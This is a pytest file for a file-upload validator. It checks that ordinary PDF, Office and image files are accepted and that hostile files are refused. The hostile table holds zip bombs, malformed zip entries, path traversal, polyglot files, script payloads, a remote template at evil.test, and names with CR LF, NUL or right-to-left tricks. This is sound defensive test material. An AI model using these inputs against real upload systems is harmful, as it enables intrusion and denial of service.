"""Files are judged by what they are: plain ones are taken, hostile ones are not, whatever they are called."""

import io
import struct
import zipfile
import zlib

import pytest

from app.errors import Invalid
from app.services.uploads import MEDIA_TYPES, judge

WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def office(main: bytes = WORD, **more: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b'<Types><Override ContentType="' + main + b'"/></Types>')
        archive.writestr("word/document.xml", b"<w:document/>")
        for name, data in more.items():
            archive.writestr(name.replace("__", "/"), data)
    return made.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\0\0"))
    + chunk(b"IEND", b"")
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xdb" + b"\0" * 70 + b"\xff\xd9"
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("Concept note.pdf", PDF, "pdf"),
        ("Budget 2027 Niger æøå.docx", office(), "docx"),
        ("Logframe.XLSX", office(SHEET), "xlsx"),
        ("Chart.docx", office(**{"word__embeddings__Data.xlsx": b"x"}), "docx"),
        ("Long table.xlsx", office(SHEET, xl__sheet=b"<c/>" * 2_000_000), "xlsx"),
        (
            "Notes with binary.pdf",
            PDF.replace(b"trailer", b"3 0 obj <<>> stream\n\x01/JS\x02\nendstream\ntrailer"),
            "pdf",
        ),
        ("kort.png", PNG, "png"),
        ("photo.jpeg", JPEG, "jpg"),
        ("photo.jpg", JPEG, "jpg"),
    ],
)
def test_a_plain_file_is_taken(name: str, data: bytes, kind: str) -> None:
    assert judge(name, data) == MEDIA_TYPES[kind]


REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'


def packed(objects: bytes) -> bytes:
    """A PDF whose objects are inside a compressed stream."""
    stream = (
        b"2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + zlib.compress(objects) + b"\nendstream endobj\n"
    )
    return PDF.replace(b"trailer", stream + b"trailer")


def overlapping() -> bytes:
    """Two directory entries for the bytes of one: small here, huge unpacked."""
    data = bytearray(office(word__a=b"a" * 50_000, word__b=b"a" * 50_000))
    first = data.index(b"word/a")
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4) + 4)
    third = data.index(b"PK\x01\x02", at + 4)
    data[third + 42 : third + 46] = struct.pack("<I", first - 30)
    return bytes(data)


def bomb() -> bytes:
    return office(word__huge=b"\0" * 60_000_000)


def lying() -> bytes:
    """An entry that says it unpacks to less than it does."""
    data = office(word__a=b"x" * 100_000)
    return data.replace(struct.pack("<I", 100_000), struct.pack("<I", 10))


def encrypted() -> bytes:
    data = bytearray(office())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


HOSTILE = {
    "macros": ("a.docx", office(word__vbaProject=b"x")),
    "embedded object": ("a.docx", office(word__embeddings__oleObject1=b"x")),
    "path traversal": ("a.docx", office(**{"..__..__etc__passwd": b"x"})),
    "zip bomb": ("a.docx", bomb()),
    "overlapping entries": ("a.docx", overlapping()),
    "lying about its size": ("a.docx", lying()),
    "encrypted": ("a.docx", encrypted()),
    "any zip called docx": ("a.docx", office(b"application/x-nothing")),
    "prefix before the archive": ("a.docx", b"#!/bin/sh\n" + office()),
    "PNG with a ZIP behind": ("a.png", PNG + office()),
    "JPEG with a page inside": ("a.jpg", JPEG[:40] + b"<script>alert(1)</script>" + JPEG[40:]),
    "PDF with a ZIP behind": ("a.pdf", PDF + office() + b"%%EOF"),
    "PDF with a script": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction <</S /JavaScript /JS (x)>>")),
    "HTML called PDF": ("a.pdf", b"<html><script>alert(1)</script></html>"),
    "SVG": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "executable": ("a.pdf", b"MZ" + b"\0" * 200),
    "another kind than its name": ("a.pdf", PNG),
    "cut off": ("a.docx", office()[:-30]),
    "empty": ("a.pdf", b""),
    "macros under another name": ("a.docx", office(b"application/vnd.ms-word.document.macroEnabled.main+xml" + WORD)),
    "an executable inside": ("a.docx", office(**{"word__media__run.exe": b"MZ"})),
    "a template from elsewhere": ("a.docx", office(**{"word__settings.rels": REMOTE})),
    "a script under an escaped name": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /J#61vaScript (x)")),
    "an embedded file": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /EmbeddedFiles 2 0 R")),
    "a script in a packed stream": ("a.pdf", packed(b"<</S /JavaScript /JS (x)>>")),
    "name with an invisible sign": ("a\u200b.pdf", PDF),
    "name with a path": ("../../a.pdf", PDF),
    "name with CR LF": ("a\r\nSet-Cookie: x.pdf", PDF),
    "name turned round": ("a\u202efdp.exe.pdf", PDF),
    "name with NUL": ("a\0.pdf", PDF),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused(what: str) -> None:
    name, data = HOSTILE[what]
    with pytest.raises(Invalid) as refused:
        judge(name, data)
    assert refused.value.code.startswith("file_")
